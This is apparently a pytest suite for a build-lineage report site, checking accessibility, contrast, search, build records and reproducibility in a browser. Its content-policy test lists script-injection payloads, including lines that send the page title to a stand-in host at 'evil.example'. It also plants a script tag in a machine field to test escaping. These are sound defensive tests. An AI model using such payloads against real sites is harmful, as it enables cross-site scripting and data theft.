"""The review site, in a real Chromium: it opens from disk and explains a build (hostile: test_report_hostile.py)."""

import re
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from tiny import ROOT, Project

from flows.attest import write_record
from flows.seen import Seen
from lineage.history import build_at
from lineage.report import write_report
from lineage.report.census import Census, take
from lineage.report.documents import DROPPED, FATE_SCHEMA, HELD_OUT, TRAIN, UNEXTRACTED, quotas, sample
from lineage.report.drawings import bar_edges, heights
from lineage.report.pages import PAGES
from lineage.report.runs import spoken
from lineage.report.search import COLUMNS, index
from stages.params import Refusal

NAMES = [f"{page}.html" for page in PAGES]
ATTACK = "<script>hit('script')</script>"  # `hit` is what it would set, if it ran
STORIES = "data/extract/stories/documents-00000.parquet"

# ---- reports ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def site(committed: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a tiny build."""
    return write_report(committed.folder, tmp_path_factory.mktemp("site") / "report").parent


# ---- it opens ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_a_page_opens_from_disk_without_a_complaint_and_asks_for_nothing_else(site, visit, name):
    page = visit.open(site / name)

    assert visit.complaints == []
    assert visit.asked == [(site / name).as_uri()]
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("name", NAMES)
def test_a_page_has_landmarks_a_language_and_tables_that_say_what_their_cells_are(site, visit, name):
    page = visit.open(site / name)

    def count(selector: str) -> int:
        return int(page.evaluate("(selector) => document.querySelectorAll(selector).length", selector))

    assert [count(each) for each in ("html[lang=en]", "body > header", "main", "body > footer", "h1")] == [1] * 5
    assert count("th:not([scope])") == 0
    assert count("table:not(:has(caption))") == 0
    assert count("svg:not([aria-hidden]):not(:has(> title))") == 0
    assert page.evaluate(
        "[...document.querySelectorAll('[id]')].every((one, _, all) => "
        "all.filter((other) => other.id === one.id).length === 1)"
    )


@pytest.mark.parametrize("name", NAMES)
def test_a_page_on_a_phone_scrolls_down_only(site, visit, name):
    page = visit.open(site / name, "source=stories" if name == "documents.html" else "", width=360)

    assert page.evaluate("document.documentElement.scrollWidth") == 360


CONTRAST = """() => {
  const parse = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => {
    const [x, y, z] = [r, g, b].map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * x + 0.7152 * y + 0.0722 * z;
  };
  const ground = (node) => {
    for (let each = node; each; each = each.parentElement) {
      const [r, g, b, a = 1] = parse(getComputedStyle(each).backgroundColor);
      if (a === 1) return [r, g, b];
      if (a !== 0) throw new Error("a translucent ground");
    }
    return parse(getComputedStyle(document.documentElement).backgroundColor);
  };
  const behind = (text) => {  // the last shape before it, in the drawing, that holds its middle
    const box = text.getBoundingClientRect(), x = box.x + box.width / 2, y = box.y + box.height / 2;
    const shapes = [...text.ownerSVGElement.querySelectorAll("rect")].filter((rect) => {
      const place = rect.getBoundingClientRect();
      const before = rect.compareDocumentPosition(text) & Node.DOCUMENT_POSITION_FOLLOWING;
      return before && place.left <= x && x <= place.right && place.top <= y && y <= place.bottom;
    });
    return shapes.length ? parse(getComputedStyle(shapes.at(-1)).fill) : ground(text.ownerSVGElement);
  };
  const worst = {};
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const element = node.parentElement, style = getComputedStyle(element);
    if (!node.data.trim() || !element.getClientRects().length || element.closest("script, title")) continue;
    const [front, back] = element.ownerSVGElement
      ? [parse(style.fill), behind(element)] : [parse(style.color), ground(element)];
    const [high, low] = [light(front), light(back)].sort((one, other) => other - one);
    const ratio = (high + 0.05) / (low + 0.05);
    const key = `${front} on ${back}`;
    worst[key] = Math.round(ratio * 100) / 100;
  }
  return worst;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_stands_out_from_its_ground(site, visit, scheme):
    found, paper = {}, set()
    for name in NAMES:
        page = visit.open(site / name, "q=stor" if name == "documents.html" else "", scheme=scheme)
        found |= page.evaluate(CONTRAST)
        paper.add(page.evaluate("getComputedStyle(document.body).backgroundColor"))

    assert paper == {"rgb(251, 251, 252)" if scheme == "light" else "rgb(15, 19, 25)"}
    assert len(found) > 5
    assert {key: ratio for key, ratio in found.items() if ratio < 4.5} == {}


def test_every_colour_of_a_drawing_has_one_in_the_dark(site):
    style = (ROOT / "lineage/report/templates/style.css").read_text(encoding="utf-8")
    drawn = set(re.findall(r'(?:fill|stroke)="#[0-9a-f]+"', (site / "build.html").read_text(encoding="utf-8")))

    assert len(drawn) > 10
    assert {each for each in drawn if f"svg [{each}]" not in style} == set()


@pytest.mark.parametrize("name", NAMES)
def test_a_page_prints_in_the_colours_of_paper(site, visit, name):
    page = visit.open(site / name, scheme="dark")
    page.emulate_media(media="print", color_scheme="dark")

    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(31, 41, 51)"
    assert page.pdf().startswith(b"%PDF")


# ---- what it says -----------------------------------------------------------------------------------------


def test_search_finds_a_document_and_says_which_rule_dropped_it(site, visit, committed):
    dropped = decisions(committed, "stories").filter(pl.col("rule") == "language.min_score").row(0, named=True)
    page = visit.open(site / "documents.html")

    page.get_by_role("searchbox").fill(dropped["origin"].upper())

    page.locator("#status", has_text="1 document").wait_for()
    score = f"{dropped['value']:.4g}"
    expected = f"Dropped by language.min_score: language score is {score}, at least 0.65 is asked."
    assert page.locator("#results .fate").inner_text() == expected
    assert page.locator("#results code").inner_text() == dropped["id"]
    assert visit.complaints == []


def test_search_leads_from_a_duplicate_to_what_was_kept(site, visit, committed):
    dropped = decisions(committed, "stories").filter(pl.col("rule").str.contains("duplicate")).row(0, named=True)
    page = visit.open(site / "documents.html", f"q={dropped['id']}")

    page.get_by_role("link", name=dropped["duplicate_of"]).click()

    page.locator("#results code", has_text=dropped["duplicate_of"]).wait_for()
    assert page.locator("#results li").count() == 1
    assert page.get_by_role("searchbox").input_value() == dropped["duplicate_of"]


def test_a_rule_of_the_funnel_leads_to_the_documents_that_it_dropped(site, visit, committed):
    page = visit.open(site / "build.html")
    rule = "language.min_score"
    expected = decisions(committed, "stories").filter(pl.col("rule") == rule)["id"].to_list()

    page.get_by_role("link", name=rule).first.click()

    page.locator("#results li").first.wait_for()
    assert sorted(page.locator("#results dd > code").all_inner_texts()) == sorted(expected)


def test_the_site_is_used_by_keyboard_alone(site, visit):
    page = visit.open(site / "build.html")

    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    assert page.evaluate("document.activeElement.getBoundingClientRect().left") >= 0
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    while page.evaluate("document.activeElement.textContent") != "Documents":
        page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    page.wait_for_url("**/documents.html")
    page.keyboard.press("/")
    page.keyboard.type("story 62")
    page.keyboard.press("Tab")
    page.keyboard.type("stories")
    assert page.evaluate("document.activeElement.value") == "stories"
    assert page.locator("#status").inner_text() == "0 documents"
    page.keyboard.press("/")
    page.keyboard.press("Control+A")
    page.keyboard.type("#62")
    assert page.locator("#status").inner_text() == "1 document"


def decisions(project: Project, source: str) -> pl.DataFrame:
    return pl.read_parquet(project.folder / f"data/dedup/{source}/decisions-*.parquet")


def test_every_document_is_counted_once_and_tokens_are_those_of_the_shards(committed):
    for census in take(committed.folder, committed.params):
        read, kept, dedup, tokens = (
            committed.json(f"data/{stage}/{census.source}/manifest.json")["counts"]
            for stage in ("extract", "filter", "dedup", "tokenize")
        )
        assert census.documents == read["read"]
        assert census.of(UNEXTRACTED).documents == sum(read["dropped"].values())
        assert census.of(DROPPED).documents == sum(kept["dropped"].values()) + sum(dedup["dropped"].values())
        assert census.of(HELD_OUT).documents == dedup["held_out"]
        assert (census.of(TRAIN).documents, census.of(TRAIN).tokens) == (tokens["documents"], tokens["tokens"])
        by_rule = {count.name: count.documents for count in census.rules}
        assert by_rule == {**read["dropped"], **kept["dropped"], **dedup["dropped"]}


def test_tokens_of_what_was_never_tokenized_are_estimated_and_said_to_be(committed):
    [census, _] = take(committed.folder, committed.params)
    counts = committed.json("data/tokenize/stories/manifest.json")["counts"]
    signals = pl.read_parquet(committed.folder / "data/extract/stories/signals-*.parquet", columns=["id", "bytes"])
    held_out = decisions(committed, "stories").filter(pl.col("split") == "held_out").join(signals, on="id")

    assert census.of(HELD_OUT).is_estimate
    assert census.of(HELD_OUT).tokens == pytest.approx(held_out["bytes"].sum() * counts["tokens"] / counts["bytes"])
    assert not census.of(TRAIN).is_estimate


def test_the_build_page_shows_figures_digests_and_samples_of_the_build(site, committed):
    text = (site / "build.html").read_text(encoding="utf-8")

    for digest_ in committed.outs().values():
        assert digest_ in text
    assert f"{committed.json('metrics/evaluate.json')['bits_per_byte']['model']:.4f}" in text
    assert committed.json("models/samples.json")[0]["prompt"] in text
    assert "<strong>No record</strong> of any stage" in text


def test_epochs_stand_in_the_mixture_with_the_shares_that_were_read(repository, tmp_path):
    repository.set("mixture.scripts", {"epochs": 0.5})
    lock = repository.folder / "dvc.lock"
    lock.write_text(lock.read_text().replace("scripts: 1\n", "scripts: {epochs: 0.5}\n"))

    write_report(repository.folder, tmp_path / "report")

    text = (tmp_path / "report/build.html").read_text(encoding="utf-8")
    row = re.search(r"scripts</th><td[^>]*>(.*?)</td><td[^>]*>(.*?)%</td>", text)
    assert row[1] == "0.5 epochs"
    assert float(row[2]) == pytest.approx(100 * 11 / 32, abs=0.5)  # 11 samples of each block of 32
    changes = (tmp_path / "report/changes.html").read_text(encoding="utf-8")
    assert "Mixture: scripts 33.3% → 0.5 epochs, stories 66.7% → 100.00% of the rest." in changes


def test_records_tell_durations_memory_and_machines_and_who_wrote_them_later(repository, tmp_path, visit):
    build = build_at(repository.folder)
    machine = {"python": "3.11.9", "processor": ATTACK, "gpus": ["Ada"]}
    seen = Seen("2026-03-01T12:00:00Z", "2026-03-01T12:02:05Z", 512_000_000, {"workers": 7}, machine)
    write_record(repository.folder, build, build.stages["pretrain"], seen)
    write_record(repository.folder, build, build.stages["dedup"], None)

    page = visit.open(write_report(repository.folder, tmp_path / "report").with_name("build.html"))

    text = " ".join(page.locator("#attestations").locator("..").inner_text().split())
    assert f"2 of {len(build.stages)} stages have a record, 0 of them signed" in text
    assert page.locator("tr:has(> th:text-is('pretrain'))").inner_text().split("\t")[-3:-1] == ["2 min 5 s", "512 MB"]
    assert "not signed, written after the run" in page.locator("tr:has(> th:text-is('dedup'))").inner_text()
    assert f'gpus ["Ada"] processor {ATTACK} python 3.11.9 workers 7' in text
    assert page.locator("svg text", has_text="2 min 5 s").count() == 1
    assert visit.hits == []


def test_published_versions_stand_beside_the_build_that_is_not_committed(repository, tmp_path, visit):
    tag = ["git", "-c", "user.name=tiny", "-c", "user.email=tiny@localhost", "tag", "--annotate", "--message", "x"]
    for name in ("base@v1.0.0", "base#prod#1", "unrelated@v9.0.0"):
        subprocess.run([*tag, name], cwd=repository.folder, check=True)
    lock = repository.folder / "dvc.lock"
    lock.write_text(lock.read_text().replace("model_type: llama", "model_type: mistral"))
    index = write_report(repository.folder, tmp_path / "report")

    page = visit.open(index)

    rows = page.locator("tbody tr").all_inner_texts()
    assert [row.split("\t")[0] for row in rows] == ["not committed this report", "v1.0.0 current"]
    page = visit.open(index.with_name("changes.html"))
    assert "pretrain.model.model_type llama mistral" in " ".join(page.locator("main").inner_text().split())


def test_a_revision_is_reported_from_the_cache(committed, site, tmp_path):
    write_report(committed.folder, tmp_path / "report", "HEAD")

    assert read(tmp_path / "report") == read(site)


def test_what_the_cache_lacks_is_named_and_the_rest_is_shown(repository, tmp_path):
    outs = repository.outs()
    gone = (
        repository.folder / ".dvc/cache/files/md5" / outs["models/samples.json"][:2] / outs["models/samples.json"][2:]
    )
    gone.unlink()
    (repository.folder / "models/samples.json").unlink()

    write_report(repository.folder, tmp_path / "report")

    text = (tmp_path / "report/build.html").read_text(encoding="utf-8")
    assert f"object {outs['models/samples.json']} of models/samples.json" in text
    assert "models/samples.json of this build is not here" in text
    assert "Every stage, what it made" in text


def test_a_broken_file_is_refused_by_its_path_in_the_project(repository, tmp_path):
    lock, md5 = repository.folder / "dvc.lock", repository.outs()["metrics/evaluate.json"]
    lock.write_text(lock.read_text().replace(md5, "0" * 32))
    (repository.folder / "metrics/evaluate.json").unlink()
    (repository.folder / "metrics/evaluate.json").write_text("{")

    with pytest.raises(Refusal, match=r"^metrics/evaluate\.json "):
        write_report(repository.folder, tmp_path / "report")
    assert not (tmp_path / "report").exists()


def test_two_reports_of_a_build_are_equal_byte_by_byte_and_small(committed, site, tmp_path):
    write_report(committed.folder, tmp_path / "again")
    write_report(committed.folder, tmp_path / "again")  # over itself

    assert read(tmp_path / "again") == read(site)
    assert sum(map(len, read(site).values())) < 1_000_000


def read(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_a_folder_of_something_else_is_left_alone(committed, tmp_path):
    (tmp_path / "thesis.txt").write_text("mine")

    with pytest.raises(Refusal, match="holds something else than a report"):
        write_report(committed.folder, tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["thesis.txt"]


def test_a_report_is_made_without_torch_dvc_or_prefect(committed, tmp_path):
    script = (
        "import sys; from pathlib import Path; from lineage.report import write_report\n"
        f"write_report(Path({str(committed.folder)!r}), Path('report'))\n"
        "print([name for name in ('torch', 'transformers', 'dvc', 'prefect', 'flows') if name in sys.modules])"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True,
        env={**committed.environment(), "PYTHONPATH": str(ROOT)},
    )  # fmt: skip

    assert done.stdout.strip() == "[]", done.stderr


# ---- the policy -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'hit(1)'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit(2)>')",
        "document.body.innerHTML = '<p>forged</p>'",
        "document.body.setAttribute('onclick', 'hit(3)'), document.body.click()",
        "new Image().src = 'https://evil.example/' + document.title",
        "fetch('https://evil.example/')",
        "setTimeout('hit(4)')",
    ],
)
def test_the_policy_stops_an_attack_that_got_through(site, visit, attack):
    """The second lock: what a bug in our escaping would let in."""
    visit.open(site / "documents.html")

    visit.page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ console.log(String(error)) }} }}")
    visit.page.wait_for_timeout(50)

    assert visit.hits == []
    assert visit.complaints
    assert not [url for url in visit.asked if "evil" in url and not any(url in said for said in visit.complaints)]


# ---- small parts ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sizes", "most", "given"),
    [
        ({"a": 10, "b": 20}, 100, {"a": 10, "b": 20}),
        ({"a": 9000, "b": 10, "c": 5000}, 1000, {"a": 495, "b": 10, "c": 495}),
        ({"a": 5, "b": 5, "c": 5}, 2, {"a": 1, "b": 1, "c": 1}),
        ({"a": 0, "b": 7}, 4, {"a": 0, "b": 4}),
    ],
)
def test_small_sources_are_sampled_whole_and_large_ones_alike(sizes, most, given):
    assert quotas(sizes, most) == given


def test_a_sample_does_not_depend_on_how_documents_are_sharded():
    table = pl.DataFrame({"id": [f"{7919 * number % 1000:03}" for number in range(100)]})

    whole = sample([table], 10)
    parts = [table[:30], table[30:31], table[31:]]
    chosen = sample([], 10).select("id")
    for part in parts:
        chosen = sample([chosen, part], 10)

    assert chosen["id"].to_list() == whole["id"].to_list()
    assert sorted(whole["id"]) == sorted(table["id"])[:10]


def test_the_search_page_knows_what_a_language_model_wrote():
    row = dict.fromkeys(FATE_SCHEMA) | {"id": "a", "fate": "train", "synthetic": True}
    sampled = pl.DataFrame([row, row | {"id": "b", "synthetic": False}], schema=FATE_SCHEMA)
    census = Census("web", (), (), (), (), (), sampled)

    first, second = index([census])["rows"]

    assert first[COLUMNS.index("synthetic")] is True
    assert len(second) <= COLUMNS.index("synthetic")
    assert census.is_synthetic


def test_a_histogram_counts_every_value_and_holds_its_threshold():
    values = [0.0, 0.1, 0.5, 0.9, 5.0]
    edges = bar_edges(values, 0.95, is_log=False)

    assert sum(heights([*values, -1.0, 99.0], edges)) == 7
    assert edges[0] <= 0.95 <= edges[-1]
    assert edges == sorted(set(edges))
    assert bar_edges([3.0, 3.0], None, is_log=True)[0] == 3.0
    assert len(bar_edges([], None, is_log=False)) == len(edges)


@pytest.mark.parametrize(
    ("seconds", "said"), [(0.25, "under 1 s"), (48, "48 s"), (725, "12 min 5 s"), (12000, "3 h 20 min")]
)
def test_a_duration_reads_as_people_write_it(seconds, said):
    assert spoken(seconds) == said
